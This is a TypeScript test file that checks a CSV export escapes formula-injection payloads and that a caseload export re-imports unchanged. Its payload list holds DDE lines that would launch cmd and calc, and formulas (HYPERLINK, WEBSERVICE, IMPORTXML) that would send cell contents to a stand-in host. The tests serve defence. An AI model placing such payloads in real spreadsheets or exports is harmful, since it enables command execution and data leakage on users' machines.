import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { exportCaseload } from '#interchange/export-caseload.ts'
import { exportCsv } from '#interchange/export-csv.ts'
import { neutraliseFormula, withoutNeutralising } from '#interchange/formula-text.ts'
import { AS_OF, BAD_ROWS, CONTINENTAL, fileBytes, OCTOBER, okValue, previewTextFile } from './files.ts'
import { knownAfter } from './known-after.ts'

const TEXT = { heading: 'Comments', kind: 'text' } as const
const decoded = (bytes: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
const cellsOf = (bytes: Uint8Array) =>
  Papa.parse<string[]>(decoded(bytes).slice(1), { skipEmptyLines: true }).data

/** What a spreadsheet would run: twenty beginnings of ten bodies. */
const PAYLOADS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '  +',
  '\u00a0=',
  '＝',
  '＋',
  '－',
  '＠',
  '==',
  '=-',
  '@=',
  '-@',
  '\ufeff=',
  '\t@',
].flatMap(start =>
  [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?"&A1)',
    '1+1',
    'SUM(1;1)',
    'WEBSERVICE("http://example.invalid")',
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
    'A1&B1\n=1',
    '"quoted"',
  ].map(body => `${start}${body}`),
)

describe('a cell that would start a formula', () => {
  test('two hundred payloads: none is one in a text column', () => {
    expect(PAYLOADS.length).toBe(200)
    const cells = cellsOf(
      exportCsv(
        [TEXT],
        PAYLOADS.map(payload => [payload]),
      ),
    )
    expect(cells.length).toBe(201)
    for (const [cell] of cells.slice(1)) {
      expect(cell?.startsWith("'")).toBe(true)
      expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠\t\r]/u)
    }
  })

  test('comes back as it was', () => {
    fc.assert(
      fc.property(fc.string(), text => {
        expect(withoutNeutralising(neutraliseFormula(text))).toBe(text)
      }),
    )
    const nasty = fc.string({ unit: fc.constantFrom("'", '=', '-', ' ', '\t', '\n', 'a') })
    fc.assert(
      fc.property(nasty, text => {
        expect(withoutNeutralising(neutraliseFormula(text))).toBe(text)
      }),
      { numRuns: 1000 },
    )
  })

  test('ordinary text, figures and dates are written as they are', () => {
    const columns = [TEXT, { heading: 'Made', kind: 'number' }, { heading: 'Last', kind: 'date' }] as const
    const rows = [
      ['O\'Brien; said "so", then left', -3, '2026-10-18'],
      ['a\r\nb', 0.5, null],
      ['not a date beside', 1, '=1+1'],
    ]
    expect(decoded(exportCsv(columns, rows))).toBe(
      '\ufeffComments,Made,Last\r\n' +
        '"O\'Brien; said ""so"", then left",-3,2026-10-18\r\n' +
        '"a\r\nb",0.5,\r\n' +
        "not a date beside,1,'=1+1\r\n",
    )
  })

  test('a heading is text too', () => {
    expect(cellsOf(exportCsv([{ heading: '=1+1', kind: 'text' }], []))).toEqual([["'=1+1"]])
  })
})

describe('our own export of a caseload', () => {
  test.each([OCTOBER, BAD_ROWS, CONTINENTAL])(
    '%s goes back in with no mapping, and changes nothing',
    path => {
      const first = okValue(
        previewTextFile({ bytes: fileBytes(path), fileName: 'x.csv', asOf: AS_OF, known: { clients: [] } }),
      )
      if (first.plan === null) throw new Error('No plan')
      const bytes = exportCaseload(first.rows.accepted)
      const known = knownAfter(first.plan)
      const choice = { month: first.plan.month }
      const again = okValue(previewTextFile({ bytes, fileName: 'y.csv', asOf: AS_OF, choice, known }))
      expect(again.rows.refused).toEqual([])
      expect(again.unsettled).toEqual([])
      expect(again.plan).toEqual({ month: first.plan.month, add: [], change: [], leave: [] })
      expect(again.questions).toEqual([])
      expect(again.counts.unchanged).toBe(first.rows.accepted.length)
    },
  )
})
